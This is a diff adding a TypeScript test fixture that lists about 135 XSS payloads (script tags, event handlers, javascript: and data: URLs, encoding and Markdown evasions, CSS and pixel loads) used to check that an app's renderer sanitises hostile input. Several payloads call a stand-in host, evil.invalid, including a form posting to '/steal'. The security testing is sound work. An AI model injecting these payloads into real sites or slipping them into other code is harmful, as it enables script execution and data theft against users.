@@ -1,0 +1,167 @@
+// XSS vectors the hostile gateway sends through every field the app renders (issue 9). A vector
+// that works calls window.__pwned(n) (an exposed sentinel), sets document.title to 'PWNED', opens a
+// dialog, or loads something from evil.invalid: each of those fails the test.
+//
+// Sources of the patterns: OWASP's XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet,
+// DOMPurify's mXSS test cases, and Markdown-specific link tricks.
+
+const P = (n: number) => `__pwned(${n})`;
+const EVIL = 'http://evil.invalid';
+
+const raw: string[] = [
+  // Script tags, plain and disguised.
+  `<script>${P(1)}</script>`,
+  `<ScRiPt>${P(2)}</sCrIpT>`,
+  `<script src=${EVIL}/x.js></script>`,
+  `<script/xss src="${EVIL}/x.js"></script>`,
+  `<scr<script>ipt>${P(5)}</scr</script>ipt>`,
+  `</script><script>${P(6)}</script>`,
+  `<script>document.title='PWNED'</script>`,
+  `<script type="module">import '${EVIL}/m.js'</script>`,
+  `<script>alert(9)</script>`,
+  `"><script>${P(10)}</script>`,
+  // Event handlers.
+  `<img src=x onerror=${P(11)}>`,
+  `<img src="x" onerror="${P(12)}">`,
+  `<img/src/onerror=${P(13)}>`,
+  `<IMG SRC=x ONERROR=${P(14)}>`,
+  `<svg onload=${P(15)}>`,
+  `<svg/onload=${P(16)}>`,
+  `<body onload=${P(17)}>`,
+  `<input autofocus onfocus=${P(18)}>`,
+  `<details open ontoggle=${P(19)}>x</details>`,
+  `<video><source onerror=${P(20)}></video>`,
+  `<audio src=x onerror=${P(21)}>`,
+  `<marquee onstart=${P(22)}>x</marquee>`,
+  `<a onmouseover=${P(23)} href=#>hover</a>`,
+  `<div onpointerenter=${P(24)} style="position:fixed;inset:0">x</div>`,
+  `<select autofocus onfocus=${P(25)}></select>`,
+  `<textarea autofocus onfocus=${P(26)}></textarea>`,
+  `<iframe onload=${P(27)}></iframe>`,
+  `<object data=x onerror=${P(28)}></object>`,
+  `<x onclick=${P(29)} contenteditable autofocus onfocus=${P(29)}>click</x>`,
+  `<img src=x onerror="document.title='PWNED'">`,
+  `<img src=x onerror=alert(31)>`,
+  `<img src=x onerror=confirm(32)>`,
+  `<img src=x onerror=prompt(33)>`,
+  `<img src=x:alert(34) onerror=eval(src)>`,
+  `<form><button formaction=javascript:${P(35)}>go</button></form>`,
+  // javascript: URLs.
+  `[click](javascript:${P(36)})`,
+  `[click](JaVaScRiPt:${P(37)})`,
+  `[click](javascript&colon;${P(38)})`,
+  `[click](&#106;avascript:${P(39)})`,
+  `[click](&#x6A;avascript:${P(40)})`,
+  `[click](  javascript:${P(41)})`,
+  `[click](%6a%61vascript:${P(42)})`,
+  `[click](java\tscript:${P(43)})`,
+  `[click](vbscript:msgbox(44))`,
+  `<a href="javascript:${P(45)}">click</a>`,
+  `<a href="jav&#x09;ascript:${P(46)}">click</a>`,
+  `<a href="jav&#x0A;ascript:${P(47)}">click</a>`,
+  `<a href=" &#14;  javascript:${P(48)}">click</a>`,
+  `<iframe src="javascript:${P(49)}"></iframe>`,
+  `<embed src="javascript:${P(50)}">`,
+  // data: URLs.
+  `[click](data:text/html,<script>${P(51)}</script>)`,
+  `[click](data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDUyKTwvc2NyaXB0Pg==)`,
+  `![x](data:image/svg+xml,<svg onload=${P(53)}>)`,
+  `<iframe src="data:text/html,<script>parent.${P(54)}</script>"></iframe>`,
+  `<object data="data:text/html,<script>${P(55)}</script>"></object>`,
+  `<embed src="data:image/svg+xml,<svg onload=${P(56)}>">`,
+  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${P(57)}'/>">`,
+  `<a href="data:text/html,<script>${P(58)}</script>">click</a>`,
+  // SVG and MathML.
+  `<svg><script>${P(59)}</script></svg>`,
+  `<svg><a xlink:href="javascript:${P(60)}"><text x=0 y=20>click</text></a></svg>`,
+  `<svg><animate onbegin=${P(61)} attributeName=x dur=1s>`,
+  `<svg><set attributeName=href to=javascript:${P(62)} /></svg>`,
+  `<svg><foreignObject><iframe src=javascript:${P(63)}></iframe></foreignObject></svg>`,
+  `<svg><style><img src=x onerror=${P(64)}></style></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${P(65)}></style></mglyph></table></mtext></math>`,
+  `<svg><image href="${EVIL}/i.png" /></svg>`,
+  `<svg><use href="${EVIL}/s.svg#x" /></svg>`,
+  `<math href="javascript:${P(69)}">click</math>`,
+  // Markdown link and image evasions.
+  `[click](<javascript:${P(70)}>)`,
+  `[click]( javascript:${P(71)} "title")`,
+  `[click][r]\n\n[r]: javascript:${P(72)}`,
+  `<javascript:${P(73)}>`,
+  `![x](javascript:${P(74)})`,
+  `![x"onerror="${P(75)}](x)`,
+  `[click](${EVIL}/ "\\" onmouseover=${P(76)} x=\\"")`,
+  `[<img src=x onerror=${P(77)}>](${EVIL}/)`,
+  `![pixel](${EVIL}/pixel.png)`,
+  `![pixel][p]\n\n[p]: ${EVIL}/ref.png`,
+  `[![img](${EVIL}/i.png)](javascript:${P(80)})`,
+  `<${EVIL}/autolink>`,
+  `[a](#" onclick="${P(82)})`,
+  `\`\`\`html\n<script>${P(83)}</script>\n\`\`\``,
+  `\`<img src=x onerror=${P(84)}>\``,
+  `\`\`\`"><img src=x onerror=${P(85)}>\ncode\n\`\`\``,
+  `| a | b |\n|---|---|\n| <img src=x onerror=${P(86)}> | [x](javascript:${P(86)}) |`,
+  `> <img src=x onerror=${P(87)}>`,
+  `- [ ] <img src=x onerror=${P(88)}>`,
+  // HTML entities and encodings.
+  `&lt;script&gt;${P(89)}&lt;/script&gt;`,
+  `&#60;script&#62;${P(90)}&#60;/script&#62;`,
+  `<img src=x onerror=&#95;&#95;pwned(91)>`,
+  `<img src=x onerror=&#x5f;&#x5f;pwned&#x28;92&#x29;>`,
+  `\\u003cscript\\u003e${P(93)}\\u003c/script\\u003e`,
+  `%3Cscript%3E${P(94)}%3C/script%3E`,
+  `<img src=x onerror="\\u005f\\u005fpwned(95)">`,
+  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${P(96)}">click</a>`,
+  // CSS: expressions, remote loads, overlays.
+  `<div style="width:expression(${P(97)})">x</div>`,
+  `<div style="background:url(javascript:${P(98)})">x</div>`,
+  `<div style="background-image:url(${EVIL}/bg.png)">x</div>`,
+  `<style>@import '${EVIL}/x.css';</style>`,
+  `<style>*{background:url(${EVIL}/all.png)}</style>`,
+  `<link rel=stylesheet href=${EVIL}/x.css>`,
+  `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red">overlay</div>`,
+  `<span style="behavior:url(${EVIL}/x.htc)">x</span>`,
+  // Other elements that load or navigate.
+  `<meta http-equiv="refresh" content="0;url=javascript:${P(105)}">`,
+  `<base href="${EVIL}/">`,
+  `<iframe srcdoc="<script>parent.${P(107)}</script>"></iframe>`,
+  `<template><img src=x onerror=${P(108)}></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${P(109)}>"></noscript>`,
+  `<img src=${EVIL}/pixel.png>`,
+  `<img srcset="${EVIL}/x.png 1x">`,
+  `<picture><source srcset="${EVIL}/p.png"><img></picture>`,
+  `<video poster=${EVIL}/poster.png></video>`,
+  `<link rel=prefetch href=${EVIL}/prefetch>`,
+  `<a ping="${EVIL}/ping" href="#">x</a>`,
+  `<isindex action=javascript:${P(116)} type=image>`,
+  `<object data=${EVIL}/o.swf></object>`,
+  `<applet code=x codebase=${EVIL}/></applet>`,
+  // Attribute and context breakouts, template injection, odd text.
+  `"><img src=x onerror=${P(119)}>`,
+  `'><svg onload=${P(120)}>`,
+  `</textarea><script>${P(121)}</script>`,
+  `</title><script>${P(122)}</script>`,
+  `<!--<img src="--><img src=x onerror=${P(123)}>">`,
+  `{{constructor.constructor('${P(124)}')()}}`,
+  '${' + P(125) + '}',
+  `<img src=x onerror=${P(126)}//`,
+  `<<img src=x onerror=${P(127)}>>`,
+  `<img src=x onerror\u0000=${P(128)}>`,
+  `\u202e<img src=x onerror=${P(129)}>`,
+  `javascript:${P(130)}`,
+  `<a href=//evil.invalid/protocol-relative>x</a>`,
+  `<form action=${EVIL}/steal method=post><input name=t value=x><button>send</button></form>`,
+  `<button form=f formaction=javascript:${P(133)}>x</button>`,
+  `<dialog open><img src=x onerror=${P(134)}></dialog>`,
+  `<img src=x onerror=${P(135)} ${'a'.repeat(2000)}>`,
+];
+
+/** Each vector with its number (vectors calling __pwned(n) report n). */
+export const XSS_VECTORS: readonly string[] = raw;
+
+/** A short name for a vector in failure messages. */
+export function vectorLabel(i: number): string {
+  const v = XSS_VECTORS[i] ?? '';
+  return `#${i} ${JSON.stringify(v.length > 60 ? v.slice(0, 57) + '…' : v)}`;
+}
+
+export const EVIL_HOST = 'evil.invalid';
